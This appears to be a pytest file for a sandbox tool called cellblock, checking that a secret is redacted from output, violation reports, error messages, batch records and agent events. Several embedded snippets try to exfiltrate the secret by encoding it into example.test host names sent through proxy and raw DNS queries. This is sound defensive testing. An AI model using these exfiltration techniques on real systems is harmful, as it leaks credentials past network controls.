"""No secret leaves a sandbox through any field: output in wide encodings, refused host names
in violations (API and CLI), error messages, batch records and agent events.

Each test is an attempt: the sandboxed program (or the caller's input) puts the secret where
it would leak, and the test asserts that no form of it is anywhere in what comes back.
"""

from __future__ import annotations

import base64
import json
import socket
import textwrap
from collections.abc import Iterator
from typing import Any

import pytest
from fake_anthropic import FakeAnthropic, message, text, tool_use

import cellblock
from cellblock.agent import Agent, AgentEvent
from conftest import EGRESS_IS_COLD, PRELUDE, Cli, Runner

#: Lower case and digits only: DNS names keep it as it is.
SECRET = "x9tok3n7s3cr3tq2v8"


def leaked_forms(secret: str) -> list[str]:
    """Forms a refused name or an error message would carry the secret in."""
    raw = secret.encode()
    return [secret, raw.hex(), base64.b32encode(raw).decode().rstrip("=").lower(),
            base64.b64encode(raw).decode().rstrip("=")]


def assert_nowhere(value: Any, secret: str = SECRET) -> None:
    dumped = json.dumps(value, default=str)
    for form in leaked_forms(secret):
        assert form not in dumped, (form, dumped[:2000])


@pytest.fixture(scope="module")
def loopback_port() -> Iterator[int]:
    """A listening socket on 127.0.0.1 the allowlist names (the only place egress may reach)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    yield server.getsockname()[1]
    server.close()


def test_wide_output_on_stdout_and_stderr_is_redacted(sandbox: Runner) -> None:
    res = sandbox.run(["python3", "-c", textwrap.dedent("""\
        import os, sys
        s = os.environ["TOKEN"]
        for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be", "utf-16", "utf-32"):
            for stream in (sys.stdout.buffer, sys.stderr.buffer):
                stream.write(("<" + s + ">\\n").encode(codec))
                stream.flush()
    """)], secrets={"TOKEN": SECRET})
    assert (res.reason, res.exit_code) == ("exited", 0), res.stderr
    for data in (res.stdout, res.stderr):
        raw = data.encode("utf-8", "surrogateescape")
        # The program really wrote wide text: the text after each secret is still there.
        assert ">".encode("utf-16-le") in raw and ">".encode("utf-32-be") in raw
        assert data.count("[REDACTED:TOKEN]") == 6
        for codec in ("utf-16-le", "utf-16-be", "utf-32-le", "utf-32-be"):
            assert SECRET.encode(codec) not in raw
    assert res.redactions == {"TOKEN": 12}


REFUSED_NAMES = """
    import base64
    s = os.environ["TOKEN"]
    names = [s + ".example.test", s.encode().hex() + ".example.test",
             base64.b32encode(s.encode()).decode().rstrip("=").lower() + ".example.test"]
    def connect(name):
        c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        c.sendall(f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n".encode())
        reply = c.recv(4096).split(b"\\r\\n")[0].decode()
        c.close()
        return reply
    out = {}
    for n in names:
        out[n] = [attempt(socket.getaddrinfo, n, 443), connect(n)]
    report(tried=list(out.values()))
"""


def check_refused(report: dict[str, Any], tried: list[list[str]]) -> None:
    # Every lookup and CONNECT was really made and refused.
    assert len(tried) == 3 and all(t[1].startswith("HTTP/1.1 403") for t in tried), tried
    hosts = {(v["host"], v["port"]) for v in report["violations"] if v["kind"] == "network"}
    for shown in ("[REDACTED:TOKEN].example.test",):
        assert (shown, 0) in hosts and (shown, 443) in hosts, hosts
    assert len([h for h in hosts if h[0] == "[REDACTED:TOKEN].example.test"]) == 2, hosts
    assert report["redactions"]["TOKEN"] >= 6, report["redactions"]
    assert_nowhere(report)


@EGRESS_IS_COLD
def test_secret_in_a_refused_name_is_redacted_in_the_report(sandbox: Runner,
                                                            loopback_port: int) -> None:
    res = sandbox.run(["python3", "-c", PRELUDE + textwrap.dedent(REFUSED_NAMES)],
                      allow_net=[f"127.0.0.1:{loopback_port}"], secrets={"TOKEN": SECRET})
    assert (res.reason, res.exit_code) == ("exited", 0), res.stderr
    tried = json.loads(res.stdout.splitlines()[-1].replace("[REDACTED:TOKEN]", "x"))["tried"]
    check_refused(vars(res), tried)


def with_secret(cli: Cli, name: str, value: str) -> Cli:
    """The same CLI with `name=value` in cellblock's own environment."""
    prefix = list(cli.prefix)
    if "-i" in prefix:  # the uid 65534 CLI starts from `env -i`
        prefix.insert(prefix.index("-i") + 1, f"{name}={value}")
    return Cli(cli.name, prefix, {**cli.env, name: value})


def test_cli_json_redacts_refused_names(cli: Cli, loopback_port: int) -> None:
    res = with_secret(cli, "TOKEN", SECRET).run(
        ["run", "--json", "--secret", "TOKEN", "--allow-net", f"127.0.0.1:{loopback_port}",
         "--", "python3", "-c", PRELUDE + textwrap.dedent(REFUSED_NAMES)])
    assert res.returncode == 0, res.stderr
    report = json.loads(res.stdout)
    assert report["exit_code"] == 0, report["stderr"]
    tried = json.loads(report["stdout"].splitlines()[-1].replace("[REDACTED:TOKEN]", "x"))["tried"]
    check_refused(report, tried)
    assert_nowhere(res.stderr.decode())


def test_error_messages_do_not_echo_a_secret(cli: Cli) -> None:
    # argv[0] is echoed by CommandNotFound: the secret is in it.
    missing = f"/nonexistent/{SECRET}/tool"
    with pytest.raises(cellblock.CommandNotFound) as info:
        cellblock.run([missing], secrets={"TOKEN": SECRET})
    assert "[REDACTED:TOKEN]" in str(info.value)
    assert_nowhere(str(info.value))
    assert info.value.__cause__ is None and info.value.__suppress_context__
    with cellblock.Sandbox(secrets={"TOKEN": SECRET}) as sb, \
            pytest.raises(cellblock.CommandNotFound) as info:
        sb.run([missing])
    assert "[REDACTED:TOKEN]" in str(info.value)
    assert_nowhere(str(info.value))
    res = with_secret(cli, "TOKEN", SECRET).run(["run", "--secret", "TOKEN", "--", missing])
    assert res.returncode == 2
    assert res.stderr.decode().startswith("cellblock: error: CommandNotFound: "), res.stderr
    assert "[REDACTED:TOKEN]" in res.stderr.decode()
    assert_nowhere(res.stderr.decode())


def test_batch_error_records_are_redacted() -> None:
    jobs = [cellblock.batch.Job(argv=[f"/nonexistent/{SECRET}"]),
            cellblock.batch.Job(argv=["sh", "-c", "echo $TOKEN"])]
    policy = cellblock.Policy(secrets={"TOKEN": SECRET})
    results = cellblock.run_many(jobs, policy=policy, progress=False)
    assert isinstance(results[0], cellblock.batch.JobError)
    assert results[0].kind == "CommandNotFound" and "[REDACTED:TOKEN]" in results[0].message
    assert results[1].stdout == "[REDACTED:TOKEN]\n"
    assert_nowhere([r.to_dict() for r in results])


def test_agent_events_redact_every_field(monkeypatch: pytest.MonkeyPatch) -> None:
    # A model that repeats the secret in tool inputs, a bad tool name and its answer.
    script = [
        message(tool_use("run_shell", {"command": f"echo {SECRET} | wc -c"}, "t1")),
        message(tool_use(f"tool_{SECRET}", {"x": SECRET}, "t2")),
        message(tool_use("write_file", {"path": f"{SECRET}.txt", "content": SECRET}, "t3")),
        message(text(f"done with {SECRET}")),
    ]
    monkeypatch.setenv("ANTHROPIC_API_KEY", "test-key")
    monkeypatch.delenv("ANTHROPIC_AUTH_TOKEN", raising=False)
    with FakeAnthropic(script) as server:
        monkeypatch.setenv("ANTHROPIC_BASE_URL", server.url)
        events: list[AgentEvent] = []
        result = Agent(model="claude-sonnet-4-6", secrets={"TOKEN": SECRET}).run(
            "go", on_event=events.append)
    assert [e.kind for e in events].count("tool_started") == 3
    dumped = [e.model_dump(mode="json") for e in events]
    assert "[REDACTED:TOKEN]" in json.dumps(dumped)
    assert_nowhere(dumped)
    assert_nowhere(result.to_dict())


#: Mixed case (the proxy and DNS fold names to lower case), and one with bytes DNS escapes
#: (` ` as `\032`, `.` inside a label as `\.`).
MIXED = "Mx7SeCrEtK3yQ9zW"
ODD = "odd sec.ret-Q7v"

REFUSED_FOLDED = """
    import base64
    s, odd = os.environ["TOKEN"], os.environ["ODD"]
    def proxy(line):
        c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
        c.sendall(line.encode())
        reply = c.recv(4096).split(b"\\r\\n")[0].decode()
        c.close()
        return reply
    def dns(labels):
        server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
        q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00"
        q += b"".join(bytes([len(l)]) + l for l in labels) + b"\\x00\\x00\\x01\\x00\\x01"
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(10)
        u.sendto(q, (server, 53))
        return u.recv(512)[3] & 15
    name = s + ".example.test"
    report(tried=[
        proxy(f"CONNECT {name}:443 HTTP/1.1\\r\\nHost: {name}:443\\r\\n\\r\\n"),
        proxy(f"GET http://{name}/ HTTP/1.1\\r\\nHost: {name}\\r\\n\\r\\n"),
        dns([s.encode(), b"example", b"test"]),
        dns([odd.encode(), b"example", b"test"]),
        dns([s.encode().hex().upper().encode(), b"example", b"test"]),
    ])
"""


@EGRESS_IS_COLD
def test_secret_in_a_refused_name_is_redacted_whatever_its_case(sandbox: Runner,
                                                                loopback_port: int) -> None:
    res = sandbox.run(["python3", "-c", PRELUDE + textwrap.dedent(REFUSED_FOLDED)],
                      allow_net=[f"127.0.0.1:{loopback_port}"],
                      secrets={"TOKEN": MIXED, "ODD": ODD})
    assert (res.reason, res.exit_code) == ("exited", 0), res.stderr
    tried = json.loads(res.stdout.splitlines()[-1])["tried"]
    # Every attempt was really made and refused (403 from the proxy, NXDOMAIN from DNS).
    assert tried[0].startswith("HTTP/1.1 403") and tried[1].startswith("HTTP/1.1 403"), tried
    assert tried[2:] == [3, 3, 3], tried
    hosts = {(v["host"], v["port"]) for v in res.violations if v["kind"] == "network"}
    assert {("[REDACTED:TOKEN].example.test", 443), ("[REDACTED:TOKEN].example.test", 80),
            ("[REDACTED:TOKEN].example.test", 0),
            ("[REDACTED:ODD].example.test", 0)} <= hosts, hosts
    dumped = json.dumps(res.violations)
    for secret in (MIXED, ODD):
        for form in (secret, secret.lower(), secret.encode().hex(), "odd\\\\032sec", "sec\\\\.ret"):
            assert form not in dumped, (form, dumped)
